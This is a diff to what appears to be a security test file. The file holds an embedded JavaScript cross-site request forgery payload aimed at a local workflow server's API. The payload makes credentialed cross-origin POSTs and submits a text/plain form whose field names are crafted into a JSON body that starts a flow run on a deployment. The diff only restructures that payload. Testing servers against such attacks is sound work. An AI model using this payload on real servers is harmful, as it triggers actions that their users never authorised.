@@ -58,7 +58,8 @@ ATTACK = """async ([port, deployment, steps]) => {
           const headers = type ? {"Content-Type": type} : {};
           const content = type ? body : new Blob([body]);
           try {
-            const answer = await fetch(base + path, {method: "POST", mode, credentials, headers, body: content});
+            const sent = {method: "POST", mode, credentials, headers, body: content};
+            const answer = await fetch(base + path, sent);
             if (answer.type !== "opaque") got.push(["posted", path, answer.status]);
           } catch (refused) {}
         }
@@ -77,7 +78,9 @@ ATTACK = """async ([port, deployment, steps]) => {
   const form = document.createElement("form");
   form.method = "POST"; form.enctype = "text/plain"; form.target = "frame";
   form.action = `${base}/api/deployments/${deployment}/create_flow_run`;
-  form.innerHTML = "<input name='{\\"parameters\\":{\\"project\\":\\"block\\"},\\"x\\":\\"' value='\\"}'>";
+  form.innerHTML = "<input>";
+  form.firstChild.name = '{"parameters":{"project":"block"},"x":"';
+  form.firstChild.value = '"}';
   document.body.innerHTML += "<iframe name=frame></iframe>";
   document.body.append(form);
   form.submit();
